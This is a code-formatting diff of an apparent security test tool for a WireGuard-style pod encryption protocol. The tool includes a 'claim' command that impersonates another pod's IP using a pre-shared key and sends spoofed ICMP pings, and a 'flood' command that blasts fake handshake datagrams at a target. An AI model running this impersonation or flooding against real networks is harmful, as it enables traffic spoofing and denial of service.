@@ -42,6 +42,7 @@ SOL_UDP = 17
 
 # ---- Noise (spec rev 34, §4-§5, §9) as the docstring names it -----------------------------------
 
+
 def blake2s(data: bytes) -> bytes:
     return hashlib.blake2s(data).digest()
 
@@ -88,8 +89,11 @@ class Initiator:
         self.mix_hash(pub)  # e
         self.mix_key(pub)  # psk modifier: MixKey(e) too
         secs, nanos = divmod(unix_ns, 10**9)
-        payload = (struct.pack("<I", sender_index) + struct.pack(">QI", 2**62 + secs, nanos)
-                   + socket.inet_aton(pod_ip))
+        payload = (
+            struct.pack("<I", sender_index)
+            + struct.pack(">QI", 2**62 + secs, nanos)
+            + socket.inet_aton(pod_ip)
+        )
         c = ChaCha20Poly1305(self.k).encrypt(nonce(0), payload, self.h)
         self.mix_hash(c)
         body = struct.pack("<I", 1) + pub + c
@@ -111,8 +115,12 @@ class Initiator:
             return None
         send, recv = hkdf(self.ck, b"", 2)
         remote_index = struct.unpack_from("<I", payload)[0]
-        return {"send": ChaCha20Poly1305(send), "recv": ChaCha20Poly1305(recv),
-                "remote_index": remote_index, "pod_ip": socket.inet_ntoa(payload[4:8])}
+        return {
+            "send": ChaCha20Poly1305(send),
+            "recv": ChaCha20Poly1305(recv),
+            "remote_index": remote_index,
+            "pod_ip": socket.inet_ntoa(payload[4:8]),
+        }
 
 
 def seal(key: ChaCha20Poly1305, receiver_index: int, counter: int, packet: bytes) -> bytes:
@@ -131,6 +139,7 @@ def open_data(key: ChaCha20Poly1305, local_index: int, datagram: bytes) -> bytes
 
 # ---- inner packets ------------------------------------------------------------------------------
 
+
 def checksum(data: bytes) -> int:
     if len(data) % 2:
         data += b"\x00"
@@ -143,18 +152,35 @@ def checksum(data: bytes) -> int:
 def echo_request(src: str, dst: str, ident: int, seq: int) -> bytes:
     icmp = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + b"tencrypt-insider"
     icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
-    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), seq, 0, 64, 1, 0,
-                         socket.inet_aton(src), socket.inet_aton(dst))
+    header = struct.pack(
+        "!BBHHHBBH4s4s",
+        0x45,
+        0,
+        20 + len(icmp),
+        seq,
+        0,
+        64,
+        1,
+        0,
+        socket.inet_aton(src),
+        socket.inet_aton(dst),
+    )
     header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
     return header + icmp
 
 
 def is_echo_reply(packet: bytes, src: str, ident: int) -> bool:
-    return (len(packet) >= 28 and packet[9] == 1 and packet[12:16] == socket.inet_aton(src)
-            and packet[20] == 0 and struct.unpack_from("!H", packet, 24)[0] == ident)
+    return (
+        len(packet) >= 28
+        and packet[9] == 1
+        and packet[12:16] == socket.inet_aton(src)
+        and packet[20] == 0
+        and struct.unpack_from("!H", packet, 24)[0] == ident
+    )
 
 
 # ---- the commands -------------------------------------------------------------------------------
+
 
 def claim(psk: bytes, target: str, claimed: str, ping: bool, timeout: float) -> dict[str, object]:
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -163,8 +189,12 @@ def claim(psk: bytes, target: str, claimed: str, ping: bool, timeout: float) -> 
     local_index = int.from_bytes(os.urandom(4), "little") | 1
     me = Initiator(psk)
     sock.sendto(me.initiation(local_index, time.time_ns(), claimed), (target, PORT))
-    result: dict[str, object] = {"response": False, "session": False, "echo_replies": 0,
-                                 "datagrams": 0}
+    result: dict[str, object] = {
+        "response": False,
+        "session": False,
+        "echo_replies": 0,
+        "datagrams": 0,
+    }
     session = None
     deadline = time.monotonic() + timeout
     while session is None and time.monotonic() < deadline:
@@ -182,8 +212,10 @@ def claim(psk: bytes, target: str, claimed: str, ping: bool, timeout: float) -> 
     counter = 0
     while ping and time.monotonic() < deadline and not result["echo_replies"]:
         packet = echo_request(claimed, target, 0x7E57, counter)
-        sock.sendto(seal(session["send"], session["remote_index"], counter, packet),  # type: ignore[arg-type]
-                    (target, PORT))
+        sock.sendto(
+            seal(session["send"], session["remote_index"], counter, packet),  # type: ignore[arg-type]
+            (target, PORT),
+        )
         counter += 1
         stop = time.monotonic() + 0.5
         while time.monotonic() < stop:
@@ -204,8 +236,9 @@ def flood(target: str, rate: float, seconds: float) -> int:
     sock.connect((target, PORT))
     per_call = 64
     cmsg = [(SOL_UDP, UDP_SEGMENT, struct.pack("=H", 88))]
-    pool = [b"".join(b"\x01\x00\x00\x00" + os.urandom(84) for _ in range(per_call))
-            for _ in range(64)]
+    pool = [
+        b"".join(b"\x01\x00\x00\x00" + os.urandom(84) for _ in range(per_call)) for _ in range(64)
+    ]
     sent, start = 0, time.monotonic()
     end = start + seconds
     while (now := time.monotonic()) < end:
